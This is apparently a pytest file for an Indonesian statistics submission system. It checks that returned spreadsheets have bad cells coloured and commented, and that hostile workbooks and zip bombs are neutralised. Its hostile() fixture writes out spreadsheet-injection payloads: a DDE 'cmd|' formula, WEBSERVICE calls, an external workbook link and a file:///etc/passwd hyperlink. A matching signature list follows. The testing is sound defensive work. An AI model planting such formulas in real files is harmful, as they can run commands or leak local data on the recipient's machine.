"""The agency's own sheet back, its bad cells marked; made inside the walls, whatever the sheet was made to do."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation

from server.intake.sandbox import Limits, ask_child
from server.notes import write
from tests.conftest import SHARED, STATISTICS, City
from tests.pages.desk import Seat
from workflow.errors import BadUpload
from workflow.store import SubmissionRecord

BLOCKS, MUST_FIX, WARNS = "00F6C9C5", "00E9CDB8", "00FBE7B8"
CHOSEN = {"reading": '{"sheet": "Penduduk"}'}
ROWS: tuple[tuple[Any, ...], ...] = (
    ("DATA PENDUDUK KOTA PEKALONGAN", None, None, None),
    (None, None, None, None),
    ("No", "Kode Kelurahan", "Tahun", "Jumlah"),
    (1, "3375010001", 2024, 1200),
    (2, "33750100", 2024, 900),
    (3, "3375010002", 2024, "=D4+D5"),
    (4, "3375010003", 2024, 10),
)


def workbook(**more: Any) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Penduduk"
    for row, cells in enumerate(ROWS, start=1):
        for column, value in enumerate(cells, start=1):
            sheet.cell(row, column, value)
    sheet["A1"].font = Font(bold=True, size=14)
    sheet.column_dimensions["B"].width = 31
    sheet.merge_cells("A1:D1")
    book.create_sheet("Catatan")["A1"] = "milik OPD"
    for address, value in more.items():
        sheet[address] = value
    stream = BytesIO()
    book.save(stream)
    return with_stored_values(stream.getvalue())


def with_stored_values(content: bytes, value: str = "2100") -> bytes:
    """As Excel saves it: every formula with what it came to."""
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            body = source.read(name).replace(b"</f><v />", f"</f><v>{value}</v>".encode())
            target.writestr(name, body.replace(b"</f><v></v>", f"</f><v>{value}</v>".encode()))
    return stream.getvalue()


def entered(city: City, content: bytes, name: str = "penduduk.xlsx", **form: str) -> SubmissionRecord:
    answer = city.client("produsen").submit_file(name, content, STATISTICS, **form)
    assert answer.status_code == 201, answer.text
    record = city.journey.records.submission(answer.json["id"])
    assert record is not None
    assert record.job.status == "done", record.job
    return record


def marked(city: City, record: SubmissionRecord, person: str = "produsen") -> Any:
    content = Seat(city, person).fetch(f"/meja/pengajuan/{record.move.id}/lembar-bertanda.xlsx")
    return openpyxl.load_workbook(BytesIO(content))


def test_bad_cells_are_coloured_and_commented_and_the_others_are_as_they_were(city: City) -> None:
    record = entered(city, workbook(), **CHOSEN)
    walidata = city.journey.records.person_by_username("walidata")
    assert walidata is not None
    pin = {"row": 7, "column": "jumlah"}
    write(city.journey, walidata.as_actor(), record.move.id, "Angka ini turun 99 persen.", "must_fix", pin)
    write(
        city.journey,
        walidata.as_actor(),
        record.move.id,
        "Sudah sesuai BPS?",
        "question",
        {"row": 4, "column": "tahun"},
    )
    wrong = [one for one in city.journey.records.findings(record.move.id) if one.row == 5]
    assert wrong
    book = marked(city, record)
    sheet, original = book["Penduduk"], openpyxl.load_workbook(BytesIO(workbook()))["Penduduk"]
    assert sheet["B5"].fill.fgColor.rgb == BLOCKS
    assert all(one.message in sheet["B5"].comment.text for one in wrong if one.severity != "informs")
    assert sheet["D7"].fill.fgColor.rgb == MUST_FIX
    assert sheet["D7"].comment.text == "Harus diperbaiki: Angka ini turun 99 persen."
    touched = {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment}
    letters = {"no": "A", "kode_kelurahan": "B", "tahun": "C", "jumlah": "D", None: "A"}
    found = [one for one in city.journey.records.findings(record.move.id) if one.severity in ("blocks", "warns")]
    assert touched == {f"{letters[one.column]}{one.row or 3}" for one in found} | {"D7"}, "a question colours nothing"
    for row in original.iter_rows():
        for cell in row:
            same = sheet[cell.coordinate]
            assert same.value == cell.value, cell.coordinate
            assert repr(same.font) == repr(cell.font)
            assert same.number_format == cell.number_format
            if cell.coordinate not in touched:
                assert repr(same.fill) == repr(cell.fill)
    assert sheet.column_dimensions["B"].width == 31
    assert [str(one) for one in sheet.merged_cells.ranges] == ["A1:D1"]
    assert book.sheetnames == ["Penduduk", "Catatan"]
    assert book["Catatan"]["A1"].value == "milik OPD"
    for person in ("walidata", "pembina-statistik"):
        assert marked(city, record, person)["Penduduk"]["B5"].comment
    assert Seat(city, "produsen2").http.get(f"/meja/pengajuan/{record.move.id}/lembar-bertanda.xlsx").status_code == 404


def test_the_marked_sheet_can_be_mended_and_sent_again(embedded_city: City) -> None:
    record = entered(embedded_city, workbook(), **CHOSEN)
    book = marked(embedded_city, record)
    book["Penduduk"]["B5"] = "3375010004"
    stream = BytesIO()
    book.save(stream)
    produsen = Seat(embedded_city, "produsen")
    produsen.open(f"/meja/pengajuan/{record.move.id}?sisi=berkas")
    content = with_stored_values(stream.getvalue())
    produsen.press(f"/meja/pengajuan/{record.move.id}/berkas", files={"file": (content, "penduduk.xlsx")})
    produsen.read(record.move.id)
    assert [one for one in embedded_city.journey.records.findings(record.move.id) if one.row == 5] == []


def test_a_csv_becomes_a_sheet_of_texts(embedded_city: City) -> None:
    content = b"No;Kode Kelurahan;Tahun;Jumlah;Ket\n1;3375010001;2024;1.200;=SUM(A1)\n2;007;2024;n.a.;\n"
    record = entered(embedded_city, content, "penduduk.csv")
    sheet = marked(embedded_city, record).worksheets[0]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["No", "Kode Kelurahan", "Tahun", "Jumlah", "Ket"],
        ["1", "3375010001", "2024", "1.200", "=SUM(A1)"],
        ["2", "007", "2024", "n.a.", None],
    ]
    assert sheet["E2"].data_type == "s", "what began with = stays a text"
    assert sheet["B3"].comment
    assert sheet["B3"].fill.fgColor.rgb in (BLOCKS, WARNS)


REACHING = {
    "F4": '=WEBSERVICE("http://127.0.0.1:9/"&D4)',
    "F5": "=cmd|'/c calc'!A0",
    "F6": "='[lain.xlsx]Lembar1'!$A$1",
    "F7": '=HYPERLINK("file:///etc/passwd","klik")',
}


def hostile() -> bytes:
    book = openpyxl.load_workbook(BytesIO(workbook(E3="Aman", F3="Luar", E4="=SUM(D4:D5)", **REACHING)))
    sheet = book["Penduduk"]
    sheet["B6"].hyperlink = "http://127.0.0.1:9/"
    choice = DataValidation(type="list", formula1='=WEBSERVICE("http://127.0.0.1:9/")')
    choice.add("C4")
    sheet.add_data_validation(choice)
    book.defined_names["keluar"] = openpyxl.workbook.defined_name.DefinedName("keluar", attr_text="[1]Lembar1!$A$1")
    stream = BytesIO()
    book.save(stream)
    return with_stored_values(stream.getvalue(), "7")


def test_what_a_workbook_could_do_when_opened_stays_behind(embedded_city: City) -> None:
    record = entered(embedded_city, hostile(), **CHOSEN)
    path = f"/meja/pengajuan/{record.move.id}/lembar-bertanda.xlsx"
    content = Seat(embedded_city, "walidata").fetch(path)
    with zipfile.ZipFile(BytesIO(content)) as archive:
        told = b" ".join(archive.read(name) for name in archive.namelist())
        assert not [name for name in archive.namelist() if "external" in name.lower() or name.endswith(".bin")]
    for sign in (b"WEBSERVICE", b"cmd|", b"[lain.xlsx]", b"file:///", b"127.0.0.1", b"[1]Lembar1"):
        assert sign not in told, sign
    sheet = openpyxl.load_workbook(BytesIO(content))["Penduduk"]
    assert sheet["E4"].value == "=SUM(D4:D5)", "what only calculates is kept"
    assert [sheet[address].value for address in REACHING] == [7, 7, 7, 7]


@pytest.mark.parametrize("name", ["50_xlsx_formula.xlsx", "46_csv_formula.csv"])
def test_a_hostile_table_of_the_collection_is_marked_without_harm(embedded_city: City, name: str) -> None:
    path = SHARED / "data" / "08_hostile" / name
    if not path.exists():
        pytest.skip(f"{path} is absent (SEBAR_SHARED)")
    record = entered(embedded_city, path.read_bytes(), name)
    for sheet in marked(embedded_city, record).worksheets:
        formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert not [cell.value for cell in formulas if any(sign in str(cell.value) for sign in "|[(")]


def test_what_was_not_read_has_no_marked_sheet(embedded_city: City) -> None:
    answer = embedded_city.client("produsen").submit_file("rusak.xlsx", workbook()[:-300], STATISTICS)
    produsen = Seat(embedded_city, "produsen")
    produsen.open(f"/meja/pengajuan/{answer.json['id']}/lembar-bertanda.xlsx")
    assert produsen.answer.status_code == 404
    assert produsen.says("Unduh temuannya sebagai CSV.")


def test_a_bomb_is_refused_by_the_one_who_marks_as_well() -> None:
    bomb = SHARED / "data" / "08_hostile" / "51_xlsx_bomb.xlsx"
    if not bomb.exists():
        pytest.skip(f"{bomb} is absent (SEBAR_SHARED)")
    spec = {"path": str(bomb.resolve()), "reading": {}, "marks": [], "target": "marked.xlsx"}
    with pytest.raises(BadUpload) as refused, ask_child("mark", spec, limits=Limits.of(bomb.stat().st_size)):
        pass
    assert refused.value.code == "ZIP_BOMB"


def test_the_walidata_copies_a_message_that_says_what_to_mend_and_until_when(city: City) -> None:
    record = entered(city, workbook(), **CHOSEN)
    id = record.move.id
    produsen, walidata = Seat(city, "produsen"), Seat(city, "walidata")
    produsen.open(f"/meja/pengajuan/{id}")
    assert produsen.page.xpath('//a[contains(., "Unduh lembar bertanda")]/@href') == [
        f"/meja/pengajuan/{id}/lembar-bertanda.xlsx"
    ]
    walidata.open(f"/meja/pengajuan/{id}")
    assert walidata.page.xpath('//a[contains(., "Unduh lembar bertanda")]')
    walidata.open(str(walidata.page.xpath('//a[contains(., "Pesan untuk OPD")]/@href')[0]))
    (box,) = walidata.page.xpath("//textarea[@readonly]")
    (button,) = walidata.page.xpath("//button[@data-copy]")
    assert button.get("data-copy") == box.get("id")
    (wrong,) = {one.message for one in city.journey.records.findings(id) if one.row == 5 and one.severity == "blocks"}
    for words in (
        "Yth. DPUPR,",
        "Data “Jumlah Penduduk” perlu diperbaiki",
        f"Baris 5, kolom kode_kelurahan: {wrong}",
        "Mohon diajukan lagi paling lambat Selasa, 17 Maret 2026.",
        f"Buka: http://localhost/meja/pengajuan/{id}",
        "Walidata, Dinas Komunikasi dan Informatika",
    ):
        assert words in box.text, box.text
    assert produsen.http.get(f"/meja/pengajuan/{id}/pesan").status_code == 403
    assert date(2026, 3, 12).weekday() == 3, "Thursday, and three working days"
